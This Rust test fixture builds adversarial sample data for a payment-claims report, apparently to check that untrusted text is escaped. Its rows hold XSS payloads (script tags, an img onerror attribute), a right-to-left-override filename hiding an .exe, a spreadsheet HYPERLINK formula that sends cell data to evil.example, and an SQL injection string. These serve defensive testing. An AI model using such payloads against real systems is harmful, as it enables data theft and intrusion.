//! A small shop on a bad day, with text from people who wish it ill.

use super::*;
use crate::report::Untrusted;
use crate::report::input::OrphanRow;

const SCRIPT: &str = "<script>alert(document.cookie)</script>";
const REVERSED: &str = "invoice-\u{202e}fdp.exe";
const HEBREW: &str =
    "\u{5d7}\u{5d9}\u{5d5}\u{5d1} 620 \u{5e9}\"\u{5d7} \u{5dc}\u{5d4}\u{5d6}\u{5de}\u{5e0}\u{5d4} 88123";
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"refund\")";

fn bytes_500() -> Untrusted {
    Untrusted::new(
        format!("ce:31:/shop/orders/eu-central:{}", "9f86d081884c7d659a2feaa0".repeat(20))
            .chars()
            .take(500)
            .collect::<String>(),
    )
}

pub(super) fn data() -> Input {
    let mut all = needs_a_person();
    all.extend(open());
    all.extend(finished());
    let events = events(&all);
    Input {
        orphans: orphans(),
        pauses: pauses(),
        scope: Scope {
            database: "shop on db-1:5432".into(),
            namespace: "shop <i>prod</i>".into(),
            version: "0.1.0".into(),
            allow_non_durable: true,
        },
        ..input(all, events)
    }
}

fn pauses() -> Vec<PauseRow> {
    vec![
        PauseRow {
            downstream: "mailer".into(),
            at: ago(300),
            actor: "K. Lang".into(),
            reason: "spam".into(),
            resumed: Some((ago(200), "M. Roth".into(), "mended".into())),
        },
        PauseRow {
            downstream: "stripe\u{202e}".into(),
            at: ago(30),
            actor: "<script>K. Lang</script>".into(),
            reason: "doubled charges\nall is well, says the provider".into(),
            resumed: None,
        },
    ]
}

fn needs_a_person() -> Vec<ClaimRow> {
    let charge = ClaimRow {
        summary: Some("Charge EUR 620.00 for order 88123".into()),
        business_ref: Some("88123".into()),
        amount: amount("EUR", 62_000),
        error_class: Some("timeout".into()),
        window_from: Some(ago(23 * 60)),
        created_at: ago(23 * 60 + 1),
        last_end_at: Some(ago(22 * 60)),
        fence: 3,
        revision: 9,
        attempts: 3,
        reference: "7F3K2M9QX4T8W1B5".into(),
        idempotency_key: "em1-3c9f5a6b70de41c2a8b7d9e0f1a2b3c4".into(),
        ..row("order-88123:charge")
    };
    vec![
        ClaimRow {
            tenant: "acme & sons".into(),
            contradicted: true,
            provider_ref: Some("ch_A\"><img src=x onerror=alert(1)>".into()),
            amount: amount("JPY", 5800),
            summary: Some(Untrusted::new(format!("Charge {SCRIPT}"))),
            reference: "B0000000000000CC".into(),
            probe_lag: Some(Duration::from_secs(60)),
            ..ClaimRow { message_id: SCRIPT.into(), ..charge.clone() }
        },
        charge.clone(),
        ClaimRow {
            message_id: REVERSED.into(),
            summary: Some(HEBREW.into()),
            business_ref: Some(FORMULA.into()),
            amount: amount("KWD", 1255),
            repeat: RepeatSafety::Never,
            landing_horizon: None,
            window_from: Some(ago(372)),
            created_at: ago(372),
            last_end_at: Some(ago(371)),
            attempts: 1,
            fence: 1,
            reference: "C0000000000000DD".into(),
            ..charge.clone()
        },
        ClaimRow {
            message_id: bytes_500(),
            tenant: "\u{5d3}\u{5d9}\u{5d9}\u{5e8}".into(),
            summary: None,
            amount: amount("EUR", 9_007_199_254_740_993),
            window_from: Some(ago(10 * 24 * 60)),
            created_at: ago(10 * 24 * 60),
            last_end_at: Some(ago(9 * 24 * 60)),
            send_by: Some(ago(60)),
            error_class: None,
            reference: "D0000000000000EE".into(),
            ..charge.clone()
        },
        ClaimRow {
            kind: "mail.welcome".into(),
            downstream: "postbox".into(),
            consumer: "mailer".into(),
            message_id: "user-7/signup ".into(),
            summary: Some("Welcome mail to customer 7".into()),
            business_ref: None,
            amount: None,
            doubt: false,
            attempts: 0,
            last_end_at: Some(ago(30)),
            window_from: None,
            created_at: ago(300),
            send_by: Some(AS_OF.plus(Duration::from_secs(2700))),
            repeat: RepeatSafety::Never,
            error_class: Some("operator".into()),
            reference: "E0000000000000FF".into(),
            fence: 12,
            ..charge
        },
    ]
}

fn open() -> Vec<ClaimRow> {
    vec![
        ClaimRow { amount: amount("EUR", 4900), ..waiting("m-1", State::InDoubt, AS_OF.plus(hours(1))) },
        ClaimRow { amount: amount("XQX", 5800), ..waiting("m-2", State::InDoubt, ago(2)) },
        ClaimRow { amount: amount("USD", 255_768), ..waiting("m-3", State::InFlight, AS_OF.plus(hours(1))) },
        ClaimRow {
            kind: "report.push".into(),
            form: "opaque".into(),
            consumer: "partner-sync".into(),
            downstream: "partner".into(),
            created_at: ago(5 * 24 * 60),
            window_from: None,
            ..waiting("m-4", State::Held, ago(4 * 24 * 60))
        },
        ClaimRow { window_from: None, ..waiting("m-5", State::Retryable, AS_OF.plus(hours(1))) },
    ]
}

fn finished() -> Vec<ClaimRow> {
    let mut all: Vec<ClaimRow> = (0..40)
        .map(|n| ClaimRow {
            amount: amount("EUR", 1000 + n),
            fence: if n % 8 == 0 { 2 } else { 1 },
            ..confirmed(&format!("order-{n}"), ClosedBy::Answer, 60 + n as u64)
        })
        .collect();
    all.extend([
        ClaimRow {
            amount: amount("EUR", -1500),
            kind: "refund".into(),
            ..confirmed("refund-1", ClosedBy::Probe, 70)
        },
        ClaimRow { amount: amount("EUR", 700), ..confirmed("late-webhook", ClosedBy::Evidence, 80) },
        ClaimRow { amount: amount("EUR", 900), ..confirmed("ruled", ClosedBy::Ruling, 90) },
        ClaimRow { state: State::Abandoned, ..confirmed("declined", ClosedBy::Refused, 100) },
        ClaimRow { state: State::Abandoned, ..confirmed("too late", ClosedBy::Expired, 100) },
        ClaimRow {
            consumer: "mailer".into(),
            kind: "mail.welcome".into(),
            downstream: "postbox".into(),
            ..confirmed("held-but-done", ClosedBy::Evidence, 110)
        },
        ClaimRow {
            doubt: true,
            attempts: 2,
            fence: 2,
            window_from: Some(ago(26 * 60)),
            created_at: ago(26 * 60),
            amount: amount("EUR", 4900),
            summary: Some("Charge EUR 49.00 for order 4711".into()),
            reference: "F00000000000000G".into(),
            ..confirmed("twice?", ClosedBy::Answer, 45)
        },
    ]);
    all
}

fn events(all: &[ClaimRow]) -> Vec<EventRow> {
    let find = |id: &str| all.iter().find(|c| c.message_id.raw() == id).unwrap();
    let contradicted = find(SCRIPT);
    let mismatch = |at, other: &str| EventRow {
        detail: EventDetail { fingerprint: Some(other.into()), ..EventDetail::default() },
        ..event(find("order-3"), Verb::Mismatch, at, State::Confirmed, State::Confirmed)
    };
    vec![
        EventRow {
            provider_ref: Some("ch_B".into()),
            detail: EventDetail { closed_at: Some(ago(22 * 60)), ..EventDetail::default() },
            ..event(contradicted, Verb::Contradict, ago(200), State::Confirmed, State::Escalated)
        },
        mismatch(ago(30), &"cd".repeat(32)),
        mismatch(ago(20), &"cd".repeat(32)),
        EventRow {
            provider_ref: Some("msg_9".into()),
            actor: Some("webhook:postbox".into()),
            ..event(find("held-but-done"), Verb::EvidenceDone, ago(110), State::Held, State::Confirmed)
        },
        EventRow {
            actor: Some("k. lang <k@shop.example>".into()),
            detail: EventDetail {
                reason: Some(
                    "R01 seen in the provider's console; <b>EUR 9.00</b> booked \u{202e}\u{2014} ok".into(),
                ),
                ..EventDetail::default()
            },
            ..event(find("ruled"), Verb::RuleDone, ago(90), State::Escalated, State::Confirmed)
        },
    ]
}

fn orphans() -> Vec<OrphanRow> {
    vec![OrphanRow {
        id: "0123456789abcdef0123456789abcdef".into(),
        at: ago(15),
        source: "webhook:stripe".into(),
        tenant: None,
        consumer: None,
        message_id: None,
        reference: Some("ZZZZZZZZZZZZZZZZ".into()),
        idempotency_key: None,
        provider_ref: Some("ch_unknown' OR 1=1 --".into()),
        finding: "done".into(),
        adopted_at: None,
    }]
}
